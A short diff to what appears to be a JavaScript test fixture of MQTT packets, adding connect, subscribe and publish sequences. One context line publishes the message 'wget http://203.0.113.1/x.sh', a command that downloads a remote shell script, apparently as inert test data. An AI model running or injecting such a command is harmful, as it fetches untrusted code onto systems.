@@ -51,6 +51,8 @@ const parts = [
   publish('home/door', 'open', 1),
   publish('a/b', 'wget http://203.0.113.1/x.sh', 2),
   publish('a/b', 'two', 4),
+  octets(connectPacket(), subscribe('#'), publish('home/door', 'open', 3)),
+  octets(connectPacket(5), subscribe('a/#', true), mqttPacket(3, 4, mqttText('a/b'), uint16(9), 0, 'x')),
   hexOf('6202 0009'),
   hexOf('c000'),
   hexOf('e000'),
